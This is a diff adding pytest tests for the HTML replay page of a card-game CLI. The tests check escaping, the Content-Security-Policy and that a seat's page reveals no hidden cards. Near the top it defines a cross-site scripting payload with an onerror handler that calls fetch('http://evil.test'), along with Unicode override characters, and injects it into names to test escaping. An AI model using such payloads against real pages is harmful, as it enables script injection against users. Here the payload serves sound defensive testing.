@@ -1,0 +1,202 @@
+"""The web page of a match: what is in the file, and what is not."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from cli.page import content, page
+from cli.page.boards import fields
+from cli.page.content import Content
+from cli.page.table import Table
+from cli.viewer.telling import Telling
+from dcg.kernel.course import MatchStarted
+from replays.match_file import of_seat
+from replays.record import MatchRecord
+from replays.store import MatchStore
+from tests.cli.conftest import Run, complaint
+
+EVIL = "</script><img src=x onerror=\"fetch('http://evil.test')\">\u2028\u202e<b>\"'&amp;--><!--"
+"""Every way out of an element, a line and a direction that a name could try."""
+
+
+@pytest.fixture(scope="module")
+def record(store: Path, match: str) -> MatchRecord:
+    with MatchStore.open(store) as opened:
+        return opened.record(match)
+
+
+@pytest.fixture(scope="module")
+def whole(record: MatchRecord) -> Content:
+    return content(record)
+
+
+@pytest.fixture(scope="module")
+def made(whole: Content) -> str:
+    return page(whole)
+
+
+def hostile(record: MatchRecord) -> MatchRecord:
+    """The same match with names that attack: of decks, players and every card."""
+    header = record.header
+    seats = tuple(msgspec.structs.replace(held, deck=EVIL, player=EVIL) for held in header.seats)
+    started = MatchStarted(msgspec.structs.replace(header, seats=seats, rules=EVIL, engine=EVIL))
+    definitions = {}
+    for held, data in record.definitions.items():
+        card = json.loads(data)
+        definitions[held] = json.dumps(
+            {**card, "name": f"{EVIL} {card['name']}", "colours": [EVIL], "category": EVIL}
+        ).encode()
+    return MatchRecord(record.id, [started, *record.events[1:]], definitions)
+
+
+class Outline(HTMLParser):
+    """The elements of a page, with the attributes that could load or run something."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.active: list[tuple[str, str | None]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.active += [
+            (name, value)
+            for name, value in attrs
+            if name in ("src", "href", "srcset", "action", "style") or name.startswith("on")
+        ]
+
+
+def test_the_page_is_the_same_every_time_and_small(record: MatchRecord, made: str) -> None:
+    assert page(content(record)) == made
+    assert len(made) < 1000 * len(record.events)
+
+
+def test_nothing_in_it_loads_anything_or_runs_but_its_own_script(made: str) -> None:
+    outline = Outline(made)
+    assert outline.active == []
+    assert outline.tags.count("script") == 2
+    assert not {"link", "img", "iframe", "object", "embed", "base"} & set(outline.tags)
+    assert not re.search(r"https?:|//[a-z]+\.|@import|url\(", made)
+    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', made)
+    assert policy
+    rules = policy[1].replace("&#39;", "'").split("; ")
+    assert rules[0] == "default-src 'none'"
+    for tag, rule in (("<script>", "script-src"), ("<style>", "style-src")):
+        own = made.partition(tag)[2].partition(tag.replace("<", "</"))[0]
+        digest = base64.b64encode(hashlib.sha256(own.encode()).digest()).decode()
+        assert f"{rule} 'sha256-{digest}'" in rules
+
+
+def test_names_stay_names(record: MatchRecord, made: str) -> None:
+    attacked = page(content(hostile(record)))
+    assert Outline(attacked).tags == Outline(made).tags
+    assert Outline(attacked).active == []
+    assert "\u2028" not in attacked
+    assert "\u202e" not in attacked
+    assert attacked.count("</script") == made.count("</script")
+
+
+@pytest.mark.parametrize("seat", [None, 0, 1])
+def test_every_board_is_the_picture_at_that_position(
+    record: MatchRecord, whole: Content, seat: int | None
+) -> None:
+    """Also after the events for which it is not drawn anew."""
+    telling = Telling(record, seat)
+    view = whole["views"][0 if seat is None else seat + 1]
+    assert view["seat"] == seat
+    board: dict = {}
+    for position, change in enumerate(view["boards"]):
+        board = {**board, **change}
+        assert spelled(board, whole["words"]) == spelled(*drawn(telling, position))
+    assert len(view["boards"]) == len(telling.events) + 1
+
+
+def drawn(telling: Telling, position: int) -> tuple[dict, list[str]]:
+    words = Table()
+    return fields(telling.picture(position), words), words.words
+
+
+def spelled(board: dict, words: list[str]) -> dict:
+    """A board with its words in place of their numbers."""
+    found = dict(board)
+    found["phase"] = words[board["phase"]]
+    for name, held in board.items():
+        if name.rstrip("01") in ("notes", "hand", "up", "trash"):
+            found[name] = [words[word] for word in held]
+        elif name.startswith("battle"):
+            found[name] = [stood(one, words) for one in held]
+        elif name.startswith("breeding") and held:
+            found[name] = stood(held, words)
+    return found
+
+
+def stood(held: list, words: list[str]) -> list:
+    return [held[0], words[held[1]], *held[2:6], [words[word] for word in held[6]]]
+
+
+@pytest.mark.parametrize("seat", [0, 1])
+def test_a_seats_page_holds_nothing_the_seat_never_knew(store: Path, seat: int) -> None:
+    hidden = 0
+    with MatchStore.open(store) as opened:
+        records = [opened.record(one.id) for one in opened.summaries()[:2]]
+    for whole in records:
+        text = page(content(whole, seat))
+        own = of_seat(whole, seat)
+        assert text == page(content(own)), "a seat's own log makes the same page"
+        seen = {json.loads(data)["name"] for data in own.definitions.values()}
+        for held in set(whole.definitions) - set(own.definitions):
+            card = json.loads(whole.definitions[held])
+            assert card["number"] not in text
+            assert held.hex() not in text
+            if not any(card["name"] in name for name in seen):
+                assert card["name"] not in text
+                hidden += 1
+        header = whole.header
+        assert header.seats[seat].deck in text
+        assert header.seats[1 - seat].deck not in text
+        assert f"seed {header.seed}" not in text
+    assert hidden
+
+
+def test_only_whole_matches_have_views_to_toggle(record: MatchRecord, whole: Content) -> None:
+    assert [view["seat"] for view in whole["views"]] == [None, 0, 1]
+    own = content(record, 1)
+    assert (own["whose"], [view["seat"] for view in own["views"]]) == (1, [1])
+
+
+def test_replay_html_writes_it_and_says_what_is_in_it(
+    dcg: Run, store: Path, match: str, made: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "match.html"
+    path.write_text("an older page")
+    result = dcg("replay", match, "--html", path, "--store", store)
+    assert result.exit_code == 0
+    assert path.read_text("utf-8") == made
+    assert "the whole match" in result.stdout
+    assert "who has the file has everything" in result.stderr
+    result = dcg("replay", match, "--html", path, "--seat", 0, "--store", store)
+    assert "what seat 0 knew" in result.stdout
+    assert result.stderr == ""
+    assert len(path.read_text("utf-8")) < len(made)
+
+
+def test_replay_html_of_what_cannot_be(dcg: Run, store: Path, match: str, tmp_path: Path) -> None:
+    page_file, own, there = tmp_path / "a.html", tmp_path / "own", tmp_path / "there.db"
+    begin = ("replay", match, "--store", store, "--html")
+    assert "only --seat goes with it" in complaint(dcg(*begin, page_file, "--turn", 3))
+    assert "there is no folder" in complaint(dcg(*begin, tmp_path / "none" / "a.html"))
+    assert "is a directory" in complaint(dcg(*begin, tmp_path))
+    dcg("export", match, own, "--seat", 0, "--store", store)
+    dcg("import", own, "--store", there)
+    refused = dcg("replay", match, "--store", there, "--seat", 1, "--html", page_file)
+    assert "what seat 1 knows is not in it" in complaint(refused)
+    assert not page_file.exists()
